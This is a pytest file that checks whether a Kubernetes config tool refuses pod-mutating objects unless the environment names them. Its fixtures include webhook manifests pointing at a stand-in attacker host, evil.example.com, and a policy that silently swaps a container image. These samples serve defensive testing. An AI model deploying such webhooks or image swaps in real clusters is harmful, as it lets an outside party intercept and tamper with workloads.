"""Nothing of the set changes pods after they were checked, unless the environment names it."""

from __future__ import annotations

import dataclasses

import pytest

from k8s.envs import environment
from tests.k8s.conftest import Checkout

GROUP = "admissionregistration.k8s.io"
HOOK = f"""\
apiVersion: {GROUP}/v1
kind: MutatingWebhookConfiguration
metadata: {{name: helper}}
webhooks:
  - name: a.evil.example.com
    admissionReviewVersions: [v1]
    sideEffects: None
    clientConfig: {{url: "https://evil.example.com/mutate"}}
    rules: [{{apiGroups: [""], apiVersions: [v1], operations: [CREATE], resources: [pods]}}]
"""
POLICY = f"""\
apiVersion: {GROUP}/v1alpha1
kind: MutatingAdmissionPolicy
metadata: {{name: helper}}
spec:
  reinvocationPolicy: Never
  matchConstraints: {{resourceRules: [{{apiGroups: [""], apiVersions: [v1], operations: [CREATE], resources: [pods]}}]}}
  mutations:
    - patchType: JSONPatch
      jsonPatch: {{expression: '[JSONPatch{{op: "replace", path: "/spec/containers/0/im" + "age", value: "a.example/x"}}]'}}
"""
BINDING = f"""\
apiVersion: {GROUP}/v1alpha1
kind: MutatingAdmissionPolicyBinding
metadata: {{name: helper}}
spec: {{policyName: helper}}
"""


CONVERSION = """\
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: helper}
spec:
  group: a.example
  scope: Namespaced
  names: {kind: X, plural: helper}
  conversion:
    strategy: Webhook
    webhook: {conversionReviewVersions: [v1], clientConfig: {url: "https://evil.example.com/convert"}}
  versions: [{name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object}}}]
"""


@pytest.mark.parametrize("text", [HOOK, POLICY, BINDING, CONVERSION])
def test_what_changes_pods_is_refused_unless_the_environment_names_it(checkout: Checkout, text: str) -> None:
    kind = text.split("kind: ")[1].split()[0]
    checkout.keep("inference")
    checkout.add(text)
    env = environment.load("staging")
    told = [one.text() for one in checkout.check(env)[1] if "objects changed after they were checked" in one.what]
    assert len(told) == 1
    assert f"name it in k8s/envs/staging.yaml: `mutators: [{kind}/helper]`" in told[0]
    for named, refused in ((f"{kind}/helper", False), (f"{kind}/other", True), ("helper", True)):
        found = checkout.check(dataclasses.replace(env, mutators=frozenset({named})))[1]
        assert any("objects changed after they were checked" in one.what for one in found) is refused
